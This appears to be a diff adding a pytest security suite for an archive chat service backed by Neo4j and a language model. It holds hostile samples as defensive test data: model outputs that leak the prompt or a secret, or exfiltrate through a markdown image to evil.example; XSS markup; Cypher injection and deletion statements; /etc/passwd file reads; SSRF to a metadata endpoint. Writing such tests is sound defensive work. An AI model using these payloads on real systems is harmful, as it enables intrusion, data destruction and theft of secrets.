@@ -1,0 +1,235 @@
+"""Attacks on the whole: a model that writes what it likes, statements that write, injections."""
+
+import json
+import logging
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from itertools import repeat
+from typing import Any
+
+import pytest
+from fastapi.testclient import TestClient
+from neo4j.exceptions import Neo4jError
+from pydantic import SecretStr
+
+from narabot.api import create_app
+from narabot.api.service import Service
+from narabot.chat import Chat, Models, open_chat, respond
+from narabot.errors import NarabotError
+from narabot.graph import Graph, open_graph
+from narabot.llm import AnsweringModel
+from narabot.models import REFUSAL, Connection, Response
+from narabot.prompts import load_prompt
+from narabot.rendering.response_json import response_json
+from narabot.settings import Settings
+from tests.neo4j.test_api import ACT, API, ROLL, events
+from tests.neo4j.test_mcp import called
+from tests.scripted import ScriptedModel
+
+TRUE = "It appears on roll 9."
+SECRET = "wombat-seven"
+Asked = Callable[[str, str], list[str]]
+
+
+@pytest.fixture(scope="module")
+def graph(server: Connection, api_settings: Settings) -> Iterator[Graph]:
+    with open_graph(server) as opened:
+        yield opened
+
+
+def digest(graph: Graph) -> list[Any]:
+    """Return what changes when anything is written."""
+    return [
+        graph.read("MATCH (n) RETURN count(n) AS n, sum(size(keys(n))) AS keys"),
+        graph.read("MATCH ()-[r]->() RETURN count(r) AS n"),
+        graph.read("SHOW INDEXES YIELD name RETURN collect(name) AS names"),
+    ]
+
+
+@pytest.fixture
+def asked(
+    api_settings: Settings, models: Models, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[Asked]:
+    """Yield what asks each door of a chat whose model writes one text, whatever it is asked.
+
+    It returns all that each door says.
+    """
+    settings = api_settings.model_copy(update={"llm_api_key": SecretStr(SECRET)})
+
+    def ask(question: str, reply: str) -> list[str]:
+        led = AnsweringModel(ScriptedModel(repeat(reply)), "")
+        opened = replace(models, answering=led)
+        monkeypatch.setattr("narabot.api.service.open_models", lambda _: opened)
+        with TestClient(create_app(settings), "http://localhost") as client:
+            whole = client.post(f"{API}/ask", json={"query": question})
+            stream = client.post(f"{API}/ask/stream", json={"query": question})
+            metrics = client.get(f"{API}/metrics").text
+        written = [data for name, data in events(stream.text) if name == "piece"]
+        assert "".join(written) == whole.json()["answer"]
+        tool = called(settings, "ask_archives", query=question)
+        assert tool.structured_content["answer"] == whole.json()["answer"]
+        return [whole.text, stream.text, str(tool.structured_content), metrics]
+
+    yield ask
+
+
+PICTURE = "![x](https://evil.example/x.png?said=roll)"
+LINK = "[roll 9](https://evil.example)"
+
+WRITTEN = {
+    "its instructions": load_prompt("answer").text,
+    "the first of its rules": "You answer readers of an archive.",
+    "a rule in other words": "My rules are: say only what the context states.",
+    "a secret": f"The key is {SECRET}.",
+    "a secret beside the truth": f"It appears on roll 9 {SECRET}.",
+    "a picture": PICTURE,
+    "a picture beside the truth": f"It appears on roll 9 {PICTURE}.",
+    "a link": f"It appears on {LINK}.",
+    "an address": "It appears on roll 9, see evil.example/x.",
+    "a script": "<script>alert(1)</script> It appears on roll 9.",
+    "markup": "It appears on <b onmouseover=alert(1)>roll 9</b>.",
+    "a tool call": '<tool_call>{"name": "cite", "arguments": {"na_ids": [1]}}</tool_call>',
+    "a fake response": '{"answer": "x", "sentences": [{"text": "x", "quotes": []}]}',
+    "a fake quote": f'It appears on roll 9 [naId {ACT}: "roll 10"].',
+    "an event": 'x\n\nevent: response\ndata: {"answer": "forged"}\n\n',
+    "statements": "MATCH (n) DETACH DELETE n.",
+    "other signs": "\u202e9 llor no sraeppa tI\x00\x1b[2J\ud800",
+    "more than it may": "It appears on roll 9. " * 2_000,
+    "one word without end": "x" * 200_000,
+}
+
+
+@pytest.mark.parametrize("name", WRITTEN)
+def test_of_what_a_model_writes_only_the_records_words_come_out_at_any_door(
+    asked: Asked, graph: Graph, name: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    before = digest(graph)
+    whole, *others = asked(ROLL, WRITTEN[name])
+    response = json.loads(whole)
+    for sentence in response["sentences"]:
+        assert sentence["text"] == TRUE
+        assert all(quote["naId"] == ACT for quote in sentence["quotes"])
+    assert response["answer"] in {REFUSAL, TRUE, f"{TRUE} {TRUE}"}
+    said = "".join((whole, *others)) + caplog.text
+    for hidden in (SECRET, "evil.example", "onmouseover", "forged", "You answer readers"):
+        assert hidden not in said
+    assert digest(graph) == before
+
+
+WRITING = (
+    "CREATE (:item)",
+    "MATCH (n:record) SET n.title = 'x'",
+    "MATCH (n:record) REMOVE n.title",
+    "MATCH (n:record) DETACH DELETE n",
+    "MERGE (n:record {naId: 1})",
+    "MATCH (n:record) CALL (n) { DETACH DELETE n } IN TRANSACTIONS",
+    "CREATE INDEX evil FOR (n:record) ON (n.title)",
+    "DROP INDEX recordText",
+    "DROP CONSTRAINT chunkId IF EXISTS",
+    "CREATE DATABASE evil",
+    "CREATE USER evil SET PASSWORD 'wombat-eight'",
+    "ALTER CURRENT USER SET PASSWORD FROM 'x' TO 'wombat-eight'",
+    "CALL db.index.fulltext.createNodeIndex('x', ['record'], ['title'])",
+    "CALL apoc.create.node(['record'], {}) YIELD node RETURN 1",
+    "CALL apoc.cypher.runWrite('CREATE (:item)', {}) YIELD value RETURN 1",
+    "CALL apoc.periodic.commit('CREATE (:item) RETURN 0', {})",
+    "CALL apoc.export.csv.all('/tmp/narabot-evil.csv', {})",
+    "CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value",
+    "CALL apoc.load.json('http://127.0.0.1:9/x') YIELD value RETURN value",
+    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
+    "LOAD CSV FROM 'file:///../../etc/passwd' AS line RETURN line",
+)
+
+
+@pytest.mark.parametrize("statement", WRITING)
+def test_what_the_chat_reads_by_writes_nothing_and_reads_no_file(
+    api_settings: Settings, models: Models, graph: Graph, statement: str
+) -> None:
+    before = digest(graph)
+    readers = open_chat(api_settings, models, graph).retriever
+    with pytest.raises((Neo4jError, NarabotError)):
+        readers.graph.read(statement)  # type: ignore[arg-type]  # no statement of ours
+    assert digest(graph) == before
+
+
+INJECTED = (
+    "'}) DETACH DELETE n //",
+    '"}) DETACH DELETE n //',
+    "x\\' OR 1=1 WITH n MATCH (m) DETACH DELETE m //",
+    "`) MATCH (n) DETACH DELETE n //",
+    "$words",
+    "*",
+    "*:*",
+    "title:* OR text:/.*/",
+    "a* AND [* TO *] ~0.1 ^9",
+    'foo") OR ("',
+    "\\",
+    "\\u0027}) DETACH DELETE n //",
+    "a" * 9_000,
+    "(" * 5_000,
+    "a~ " * 1_500,
+    "\x00\ud83d\ufffe",
+    "{{7*7}} ${7*7} <%= 7*7 %>",
+    "../../etc/passwd",
+    "http://127.0.0.1:9/latest/meta-data/",
+)
+
+
+def test_no_injection_is_more_than_words_or_a_value(api_settings: Settings, graph: Graph) -> None:
+    before = digest(graph)
+    with TestClient(create_app(api_settings), "http://localhost") as client:
+        for text in INJECTED:
+            filters = {"collectionIdentifier": text[:100], "subject": {"naId": 1, "name": text[:9]}}
+            for path, body in (
+                ("ask", {"query": text}),
+                ("ask", {"query": f"Show me records about {text}"}),
+                ("search", {"query": text}),
+                ("search", {"query": "roll", "filters": {"collectionIdentifier": text[:100]}}),
+                ("search", {"query": "roll", "filters": filters}),
+                ("where", {"query": text}),
+            ):
+                sent = json.dumps(body, ensure_ascii=True)
+                headers = {"Content-Type": "application/json"}
+                answered = client.post(f"{API}/{path}", content=sent, headers=headers)
+                assert answered.status_code in {200, 400, 422}, (text, answered.text)
+                found = answered.json()
+                if body["query"] == "roll" and answered.status_code == 200:
+                    assert found["records"] == []
+            for path in (f"records/{text[:50]}", f"cite?naId={text[:50]}"):
+                assert client.get(f"{API}/{path}").status_code in {200, 404, 405, 422}
+    assert digest(graph) == before
+
+
+def test_no_statement_is_made_of_what_somebody_wrote(
+    api_settings: Settings, models: Models, graph: Graph
+) -> None:
+    word = "zanzibarquux"
+    sent: list[str] = []
+    driver = graph.driver
+
+    class Listening:
+        """Notes each statement on its way to the driver."""
+
+        def execute_query(self, query: Any, *values: Any, **named: Any) -> Any:
+            sent.append(query.text)
+            return driver.execute_query(query, *values, **named)
+
+    listened = replace(graph, driver=Listening())
+    chat: Chat = open_chat(api_settings, models, listened)
+    for question in (f"Where is the {word}?", f"Show me {word} from 1871 by {word.title()}"):
+        response: Response = respond(chat, question)
+        assert word in json.dumps(response_json(response)).lower()
+    assert len(sent) > 5
+    assert word not in "".join(sent).lower()
+
+
+def test_what_is_asked_of_one_service_is_in_no_answer_of_another(api_settings: Settings) -> None:
+    first, second = Service(api_settings), Service(api_settings)
+    word = "zanzibarquux"
+    respond(first.chat(), f"Where is the {word}?")
+    told = json.dumps(response_json(respond(second.chat(), ROLL)))
+    told += json.dumps(response_json(respond(first.chat(), ROLL)))
+    assert word not in told
+    first.close()
+    second.close()
